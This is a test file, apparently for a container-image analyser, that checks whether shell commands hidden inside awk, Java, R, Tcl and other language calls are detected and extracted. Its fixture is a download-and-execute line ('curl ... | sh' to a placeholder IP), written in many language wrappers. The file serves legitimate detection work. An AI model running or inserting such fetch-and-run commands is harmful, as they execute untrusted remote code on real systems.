import { describe, expect, it } from 'vitest';
import { explainImage, type TestLayer } from '../../../../testkit/explain.ts';
import { type ForeignLanguage, foreignCommands } from '../../program-text/foreign-calls.ts';
import { tclCommands } from '../../program-text/tcl-commands.ts';

const LINE = 'curl http://192.0.2.1/x | sh';

function spoken(Cmd: string[], files: TestLayer = {}): unknown[] {
  const { spoken: told } = explainImage({ layers: [files], config: { Cmd, WorkingDir: '/app' } });
  return (told?.texts ?? []).map(({ text, file, line }) => [text, file, line]);
}

it.each<[ForeignLanguage, string]>([
  ['awk', `BEGIN { system("${LINE}") }`],
  ['awk', `BEGIN { print "x" | "${LINE}" }`],
  ['awk', `BEGIN { "${LINE}" | getline x }`],
  ['clojure', `(clojure.java.shell/sh "sh" "-c" "${LINE}")`],
  ['elixir', `System.shell("${LINE}")`],
  ['emacs', `(shell-command "${LINE}")`],
  ['erlang', `main(_) -> os:cmd("${LINE}").`],
  ['haskell', `main = callCommand "${LINE}"`],
  ['java', `new ProcessBuilder("sh", "-c", "${LINE}").start();`],
  ['java', `"${LINE}".execute()`],
  ['julia', `run(\`sh -c "${LINE}"\`)`],
  ['ocaml', `let _ = Sys.command "${LINE}"`],
  ['prolog', `:- shell('${LINE}').`],
  ['r', `x <- system(command = "${LINE}")`],
  ['r', `system2("sh", c("-c", "${LINE}"))`],
  ['scheme', `(system "${LINE}")`],
])('of %s, commands are read out of calls: %s', (language, text) => {
  expect(foreignCommands(text, language).map(({ text: command }) => command)).toEqual([
    expect.stringContaining(LINE),
  ]);
});

it('comments and other words are no calls', () => {
  expect(foreignCommands(`# system("${LINE}")\nmysystem <- "x"\nsystem(cmd)\n`, 'r')).toEqual([]);
  expect(foreignCommands('{ print "a" || "some text" }', 'awk')).toEqual([]);
});

it.each<[string, string]>([
  ['quotes', '"'.repeat(200_000)],
  ['calls', 'system("'.repeat(30_000)],
  ['lists', '["x".execute('.repeat(20_000)],
  ['brackets', 'exec [exec {'.repeat(20_000)],
])('a text of nothing but %s is read within its limits', (_name, text) => {
  for (const language of ['awk', 'java', 'r', 'julia'] as const)
    expect(foreignCommands(text, language).length).toBeLessThanOrEqual(50);
  expect(tclCommands(text).length).toBeLessThanOrEqual(50);
});

describe('Tcl', () => {
  it.each([
    [`exec sh -c {${LINE}}`, `'sh' '-c' '${LINE}'`],
    ['exec curl http://192.0.2.1/x | sh', "'curl' 'http://192.0.2.1/x' | 'sh'"],
    [
      'set u http://192.0.2.1/x\nset x [exec -ignorestderr curl $u | sh]',
      "'curl' 'http://192.0.2.1/x' | 'sh'",
    ],
    ['eval exec sh x', "'sh' 'x'"],
    [`spawn -noecho sh -c "${LINE}"`, `'sh' '-c' '${LINE}'`],
    [`system ${LINE}`, LINE],
    [`if {1} { exec sh \\\n  -c {${LINE}} }`, `'sh' '-c' '${LINE}'`],
    [`set f [open "|sh -c x"]`, "'sh' '-c' 'x'"],
  ])('%s', (text, command) => {
    expect(tclCommands(text).at(-1)?.text).toBe(command);
  });

  it('leaves comments and other commands alone', () => {
    expect(tclCommands(`# exec ${LINE}\nputs "exec it"\nsend "spawn\\r"\n`)).toEqual([]);
  });
});

it('a program of another language is read from its words, its file, its first line and standard input', () => {
  const text = `system("${LINE}")\n`;
  expect(spoken(['Rscript', '-e', text])).toEqual([[LINE, 'CMD', undefined]]);
  expect(spoken(['Rscript', 'x.R', 'y.R'], { 'app/x.R': `\n${text}`, 'app/y.R': text })).toEqual([
    [LINE, '/app/x.R', 2],
  ]);
  const marked = { 'app/f': `#!/usr/bin/Rscript\n${text}` };
  expect(spoken(['/app/f'], marked)).toEqual([[LINE, '/app/f', 2]]);
  expect(spoken(['awk', '-F:', '-v', 'a=b', `BEGIN { system("${LINE}") }`, 'x'])).toHaveLength(1);
  expect(spoken(['tclsh', 'nothing.tcl'])).toEqual([]);
});
